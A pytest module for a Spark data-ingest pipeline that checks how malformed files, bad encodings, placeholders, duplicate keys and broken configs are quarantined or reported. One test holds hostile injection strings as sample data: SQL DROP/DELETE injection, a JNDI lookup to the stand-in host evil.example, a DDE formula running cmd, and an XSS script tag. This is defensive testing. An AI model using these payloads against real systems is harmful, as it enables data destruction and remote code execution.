"""The bad-input corpus (``tests/data/bad``): every case lands or fails on its own, with a
clear error naming the file, key or row, or a quarantine row with its reason; and no row is
lost: input rows = landed rows = rows behind silver records + rows quarantined.

One ingest (through the ``udp`` command) and one standardize over all cases, shared by the
tests of this module; the bad configurations need no Spark but the parser check.
"""

from __future__ import annotations

import contextlib
import io as std_io
import shutil
from collections import Counter
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from pyspark.sql import SparkSession
from pyspark.sql import functions as F

from udp_spark import io
from udp_spark.cli import main
from udp_spark.config import ConfigError, PipelineConfig, load_config
from udp_spark.pipeline.context import StageContext
from udp_spark.pipeline.standardize import StandardizeError, run_standardize
from udp_spark.standardize.transforms import (
    KEY_REUSED,
    NO_LETTERS,
    TOO_LONG,
    UNDECODABLE,
    check_expression_syntax,
)
from udp_spark.tables import AUDIT_RUNS, SILVER_PARTY_RECORDS, SILVER_QUARANTINE

# One ingest and one standardize over 20 sources: well over the quick loop's budget.
pytestmark = pytest.mark.slow

BAD = Path(__file__).resolve().parent / "data" / "bad"

# Data rows of each case as the reader sees them (a malformed line is a row too).
INPUT_ROWS = {
    "binary_bytes": 2, "dates": 6, "dup_keys": 6, "emoji_scripts": 8, "extra_missing": 4,
    "huge_field": 2, "injection": 5, "invalid_utf8": 3, "json_types": 8, "latin1": 3,
    "latin1_declared": 3, "placeholders": 5, "rejected_all": 3, "unterminated_quote": 3,
}
NOTHING_TO_LAND = ("empty_file", "header_only")
FAILED_AT_INGEST = ("mapped_missing", "no_files", "random_bytes", "wrong_delimiter")


@dataclass
class Corpus:
    cfg: PipelineConfig
    data: Path
    ingest_exit: int | None
    ingest_out: str
    ingest_err: str
    standardize_error: StandardizeError
    bronze: dict[str, list[dict[str, Any]]]
    records: dict[str, list[dict[str, Any]]]
    quarantine: dict[str, list[dict[str, Any]]]
    runs: dict[str, dict[str, Any]]


def _by_source(rows: list[Any], key: str = "source") -> dict[str, list[dict[str, Any]]]:
    out: dict[str, list[dict[str, Any]]] = {}
    for r in rows:
        out.setdefault(r[key], []).append(r.asDict(recursive=True))
    return out


@pytest.fixture(scope="module")
def corpus(spark: SparkSession, tmp_path_factory: pytest.TempPathFactory) -> Corpus:
    base = tmp_path_factory.mktemp("bad_input")
    data = base / "data"
    shutil.copytree(BAD / "data", data)
    (data / "huge_field").mkdir()
    (data / "huge_field" / "a.csv").write_text(
        "id,first,last,email,phone,dob\n"
        f"1,{'A' * 1_048_576},Lee,ann@example.org,,\n2,Bob,Ray,bob@example.org,,\n")
    args = ["--config", str(BAD / "conf" / "pipeline.yaml"), "--data-root", str(data),
            "--lakehouse", str(base / "lake")]
    out, err = std_io.StringIO(), std_io.StringIO()
    code: int | None = 0
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            main(["ingest", *args])
        except SystemExit as exc:
            code = exc.code if isinstance(exc.code, int) else 1
    cfg = load_config(BAD / "conf" / "pipeline.yaml", data_root=str(data),
                      lakehouse_root=str(base / "lake"))
    ctx = StageContext(spark, cfg)
    with pytest.raises(StandardizeError) as std_err:
        run_standardize(ctx)
    lake = ctx.lakehouse
    bronze = {name: [r.asDict(recursive=True) for r in io.read_table(
        spark, lake.bronze(name)).collect()]
        for name in cfg.sources if io.table_exists(spark, lake.bronze(name))}
    records = _by_source(io.read_table(spark, lake.ref(SILVER_PARTY_RECORDS)).drop(
        "identifiers", "attributes").collect())
    quarantine = _by_source(io.read_table(spark, lake.ref(SILVER_QUARANTINE)).collect())
    runs = {r["stage"]: r.asDict(recursive=True) for r in io.read_table(
        spark, lake.ref(AUDIT_RUNS)).collect()}
    return Corpus(cfg, data, code, out.getvalue(), err.getvalue(), std_err.value, bronze,
                  records, quarantine, runs)


def _rejected(c: Corpus, source: str) -> list[dict[str, Any]]:
    return [q for q in c.quarantine.get(source, [])
            if q["stage"] == "standardize:party" and q["action"] == "row_rejected"]


def _issues(c: Corpus, source: str) -> list[tuple[str, str]]:
    return sorted((q["field"], q["reason"]) for q in c.quarantine.get(source, [])
                  if q["action"] != "row_rejected")


def _record(c: Corpus, source: str, key: str) -> dict[str, Any]:
    (rec,) = [r for r in c.records[source] if r["source_key"] == key]
    return rec


def test_every_row_is_landed_and_then_in_silver_or_quarantine(corpus: Corpus) -> None:
    """The row-count identity, per source: input = bronze = silver rows + quarantined."""
    landed = {name: len(rows) for name, rows in corpus.bronze.items()}
    assert landed == {**INPUT_ROWS, "header_only": 0}
    for name, n in INPUT_ROWS.items():
        in_silver = sum(r["_source_rows"] for r in corpus.records.get(name, []))
        assert in_silver + len(_rejected(corpus, name)) == n, name


def test_one_bad_source_never_stops_the_others(corpus: Corpus) -> None:
    assert corpus.ingest_exit == 2  # some sources failed: not 0, named below
    for name in FAILED_AT_INGEST:
        assert f"source {name!r}" in corpus.ingest_err
        assert f"bronze.{name}" in corpus.ingest_out and "FAILED" in corpus.ingest_out
    assert f"{len(FAILED_AT_INGEST)} of {len(corpus.cfg.sources)} sources failed" \
        in corpus.ingest_err
    run = corpus.runs["ingest"]
    assert run["status"] == "failed" and run["metrics"]["sources_failed"] == 4
    for name in FAILED_AT_INGEST:
        assert name in run["error"] and run["row_counts"][f"bronze.{name}"] == 0
    for name, n in INPUT_ROWS.items():  # sources after a failed one were landed too
        assert run["row_counts"][f"bronze.{name}"] == n


def test_failures_name_the_file_and_the_fix(corpus: Corpus) -> None:
    err = corpus.ingest_err
    data = corpus.data
    assert f"{data / 'random_bytes' / 'random.csv'}" in err  # random bytes: the file named
    assert "party.source_key maps column 'id'" in err
    assert f"{data / 'mapped_missing' / 'a.csv'}" in err  # the README's promise: a failure
    assert "party.email maps column 'email'" in err
    assert f"{data / 'wrong_delimiter' / 'a.csv'}" in err  # not exit 0 with every row rejected
    assert "set options: {sep: ';'}" in err
    assert "source 'no_files': no files at" in err and "nowhere/*.csv" in err


def test_empty_and_header_only_files_land_nothing_and_fail_nothing(corpus: Corpus) -> None:
    out = corpus.ingest_out
    assert "EMPTY files (0 bytes, nothing landed)" in out and "empty_file/a.csv" in out
    assert "matched no files" not in corpus.ingest_err
    assert "empty_file" not in corpus.bronze and corpus.bronze["header_only"] == []
    for name in NOTHING_TO_LAND:
        assert f"source {name!r}" not in corpus.ingest_err
        assert corpus.runs["ingest"]["row_counts"][f"bronze.{name}"] == 0


def test_a_source_whose_every_row_is_rejected_is_a_failed_source(corpus: Corpus) -> None:
    exc = corpus.standardize_error
    assert exc.report.failed_sources == {"rejected_all": 3}
    assert "source 'rejected_all': all 3 rows rejected, e.g. 'missing source key'" in str(exc)
    run = corpus.runs["standardize"]
    assert run["status"] == "failed" and "rejected_all" in run["error"]
    assert {q["reason"] for q in _rejected(corpus, "rejected_all")} == {"missing source key"}
    assert corpus.records.get("rejected_all") is None
    assert len(corpus.records["dates"]) == 6  # the other sources were written


def test_malformed_lines_are_quarantined_whole(corpus: Corpus) -> None:
    bad = {q["raw_row"] for q in _rejected(corpus, "unterminated_quote")}
    assert [q["reason"] for q in _rejected(corpus, "unterminated_quote")] == ["malformed row"]
    assert any('"Bob,Ray' in (r or "") for r in bad)
    assert {r["source_key"] for r in corpus.records["unterminated_quote"]} == {"1", "3"}
    # extra and missing fields: the row is malformed; a file with its own header is read by
    # its names (columns in another order land under the right names, extras are rescued)
    assert sorted(q["reason"] for q in _rejected(corpus, "extra_missing")) == [
        "malformed row", "malformed row"]
    di = _record(corpus, "extra_missing", "4")
    assert (di["given_name"], di["family_name"]) == ("Di", "Fox")
    (b_row,) = [r for r in corpus.bronze["extra_missing"] if r["id"] == "4"]
    assert b_row["_rescued_data"] == '{"notes":"met at fair"}' and b_row["loyalty"] is None
    assert "MISSING columns: ['loyalty']" in corpus.ingest_out
    assert "rescued columns: ['notes']" in corpus.ingest_out


def test_undecodable_bytes_are_quarantined_and_a_declared_encoding_reads_them(
        corpus: Corpus) -> None:
    for name, keys in (("latin1", {"1", "3"}), ("invalid_utf8", {"2", "3"})):
        rejected = _rejected(corpus, name)
        assert {q["reason"] for q in rejected} == {UNDECODABLE}, name
        assert {q["record_id"].split(":")[1] for q in rejected} == keys
        assert all(q["_file"].endswith(f"{name}/a.csv") for q in rejected)
    assert corpus.runs["ingest"]["row_counts"]["bronze.latin1.undecodable_rows"] == 2
    assert "hold U+FFFD" in corpus.ingest_out
    jose = _record(corpus, "latin1_declared", "1")
    assert (jose["given_name"], jose["family_name"]) == ("José", "Muñoz")
    assert _record(corpus, "latin1_declared", "3")["family_name"] == "Ångström"
    assert _rejected(corpus, "latin1_declared") == []


def test_binary_control_bytes_are_stripped(corpus: Corpus) -> None:
    ann = _record(corpus, "binary_bytes", "1")
    assert (ann["given_name"], ann["family_name"]) == ("Ann", "Lee")
    assert _rejected(corpus, "binary_bytes") == []


def test_a_1mb_field_lands_and_is_nulled_with_a_reason(corpus: Corpus) -> None:
    (row,) = [r for r in corpus.bronze["huge_field"] if r["id"] == "1"]
    assert len(row["first"]) == 1_048_576  # bronze keeps what arrived
    ann = _record(corpus, "huge_field", "1")
    assert ann["given_name"] is None and ann["family_name"] == "Lee"
    assert ann["email"] == "ann@example.org"
    assert ("given_name", TOO_LONG) in _issues(corpus, "huge_field")


def test_non_latin_scripts_are_kept_and_emoji_only_names_flagged(corpus: Corpus) -> None:
    norms = {r["source_key"]: (r["given_name_norm"], r["family_name_norm"])
             for r in corpus.records["emoji_scripts"]}
    assert norms["1"] == ("иван", "петров")
    assert norms["2"] == ("小明", "王")
    assert norms["3"] == ("محمد", "علي")
    assert norms["8"] == ("अमित", "शर्मा")
    assert norms["7"] == ("ann", "lee")
    emoji = _record(corpus, "emoji_scripts", "5")  # kept for its e-mail, without a name
    assert (emoji["given_name"], emoji["family_name"], emoji["email"]) == (
        None, None, "emoji@example.org")
    assert ("name", NO_LETTERS) in _issues(corpus, "emoji_scripts")
    (only,) = _rejected(corpus, "emoji_scripts")  # an emoji and nothing else
    assert (only["record_id"], only["reason"]) == ("emoji_scripts:6", "no usable identifier")


def test_impossible_dates_are_nulled_with_their_reason(corpus: Corpus) -> None:
    reasons = {q["raw_value"]: q["reason"] for q in corpus.quarantine["dates"]}
    assert reasons == {"31/02/1990": "unparseable date", "0000-00-00": "unparseable date",
                       "1985-13-45": "unparseable date",
                       "2999-01-01": "date of birth out of range",
                       "1900-01-01": "placeholder date of birth"}
    dobs = {r["source_key"]: r["date_of_birth"] for r in corpus.records["dates"]}
    assert [k for k, v in dobs.items() if v is not None] == ["6"]


def test_placeholder_emails_and_phones_are_nulled(corpus: Corpus) -> None:
    issues = Counter(_issues(corpus, "placeholders"))
    assert issues[("email", "placeholder email")] == 4  # x@x.com, noemail@noemail.com x2, test@
    assert issues[("phone", "invalid phone number")] == 4
    emails = {r["source_key"]: (r["email"], r["phone_e164"])
              for r in corpus.records["placeholders"]}
    assert emails == {"1": (None, None), "2": (None, None), "3": (None, None),
                      "4": (None, None), "5": ("ed@example.org", "+12125550100")}


def test_a_reused_source_key_never_makes_one_record_of_two_people(corpus: Corpus) -> None:
    bob = _record(corpus, "dup_keys", "1")  # Ann's row, then Bob's with blanks
    assert (bob["given_name"], bob["family_name"]) == ("Bob", "Ray")
    assert (bob["email"], bob["phone_e164"], bob["date_of_birth"]) == (None, None, None)
    assert bob["_source_rows"] == 1
    # same person, re-keyed with a nickname and blanks: merged, blanks filled
    smith = _record(corpus, "dup_keys", "2")
    assert (smith["given_name"], smith["email"], smith["phone_e164"]) == (
        "Bob", "rob@example.org", "+12125550102")
    assert smith["_source_rows"] == 2
    cy = _record(corpus, "dup_keys", "3")  # another date of birth: another person
    assert (str(cy["date_of_birth"]), cy["email"]) == ("1971-07-08", None)
    superseded = sorted((q["record_id"], q["reason"]) for q in _rejected(corpus, "dup_keys"))
    assert superseded == [("dup_keys:1", KEY_REUSED), ("dup_keys:3", KEY_REUSED)]
    assert any('"Ann"' in q["raw_row"] for q in _rejected(corpus, "dup_keys"))


def test_injection_strings_are_data(corpus: Corpus) -> None:
    firsts = {r["id"]: r["first"] for r in corpus.bronze["injection"]}
    assert firsts == {"1": "'; DROP TABLE users; --", "2": "${jndi:ldap://evil.example/a}",
                      "3": "=cmd|' /C calc'!A0", "4": "<script>alert(1)</script>",
                      "5": "Robert'); DELETE FROM silver.party_records;--"}
    assert len(corpus.records["injection"]) == 5
    assert sum(len(v) for v in corpus.records.values()) > 40  # nothing was deleted


def test_json_with_wrong_types(corpus: Corpus) -> None:
    rows = {r["source_key"]: r for r in corpus.records["json_types"]}
    assert rows["1"]["full_name"] == "Ann Lee" and str(rows["1"]["date_of_birth"]) == "1980-01-02"
    assert set(rows) == {"1", "2", "true", '{"nested": 4}'}  # kept as the JSON text
    assert rows["2"]["email"] is None  # 42 is no e-mail
    reasons = Counter(q["reason"] for q in _rejected(corpus, "json_types"))
    assert reasons == {"malformed row": 3, "missing source key": 1}


# --------------------------------------------------------------------- bad configurations


@pytest.mark.parametrize(("kind", "says"), [
    ("yaml_syntax", "people.yaml: not valid YAML"),
    ("unknown_key", "people.yaml: party.emial: unknown key"),
    ("unknown_top_key", "pipeline.yaml: standardise: unknown key"),
    ("bad_sql", "people.yaml: party.gender.expr: 'upper(trim(sex)' is not a valid SQL "
                "expression: unbalanced '('"),
])
def test_a_bad_config_fails_at_load_naming_file_and_key(kind: str, says: str) -> None:
    with pytest.raises(ConfigError) as err:
        load_config(BAD / "configs" / kind / "pipeline.yaml")
    assert says in str(err.value)


def test_sql_the_light_check_lets_by_fails_at_start_naming_source_and_key(
        spark: SparkSession, capsys: pytest.CaptureFixture[str]) -> None:
    path = BAD / "configs" / "bad_sql_parser" / "pipeline.yaml"
    cfg = load_config(path)  # brackets and quotes balance: only Spark's parser knows
    with pytest.raises(ConfigError) as err:
        check_expression_syntax(spark, cfg)
    assert "source 'people': party.gender.expr: \"case when sex = 'f' then 'female'\" is " \
           "not a valid Spark SQL expression" in str(err.value)
    with pytest.raises(SystemExit) as exit_info:  # udp: before any stage runs, exit 2
        main(["standardize", "--config", str(path)])
    assert exit_info.value.code == 2
    assert "party.gender.expr" in capsys.readouterr().err


def test_a_path_that_matches_nothing_fails_that_source_by_name(
        spark: SparkSession, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main(["ingest", "--config", str(BAD / "configs" / "path_matches_nothing" /
                                        "pipeline.yaml"),
              "--data-root", str(tmp_path), "--lakehouse", str(tmp_path / "lake")])
    assert exit_info.value.code == 2
    assert "source 'people': no files at" in capsys.readouterr().err


def test_quarantine_ids_are_unique_per_problem(corpus: Corpus, spark: SparkSession) -> None:
    q = io.read_table(spark, StageContext(spark, corpus.cfg).lakehouse.ref(SILVER_QUARANTINE))
    assert q.groupBy("quarantine_id").count().filter(F.col("count") > 1).isEmpty()


def test_udp_run_goes_on_past_the_sources_that_failed(corpus: Corpus, spark: SparkSession,
                                                      tmp_path: Path) -> None:
    """The whole pipeline over the corpus: ingest and standardize fail some sources and
    write the others (``partial``), and the stages after them still run on what was
    written; the run ends failed, naming every failed source."""
    from udp_spark.pipeline.run import run_pipeline

    cfg = corpus.cfg.model_copy(update={"mlflow": corpus.cfg.mlflow.model_copy(
        update={"tracking_uri": f"sqlite:///{tmp_path / 'mlflow.db'}"})})
    summary = run_pipeline(StageContext(spark, cfg))
    out = {o.stage: o for o in summary.outcomes}
    assert out["ingest"].status == "partial", summary.lines()
    assert all(name in out["ingest"].reason for name in FAILED_AT_INGEST), out["ingest"]
    assert out["standardize"].status == "partial", summary.lines()
    assert "rejected_all" in out["standardize"].reason
    assert out["block"].status == "ran", summary.lines()  # not blocked by a bad source
    assert {o.stage for o in summary.failed} >= {"ingest", "standardize"}
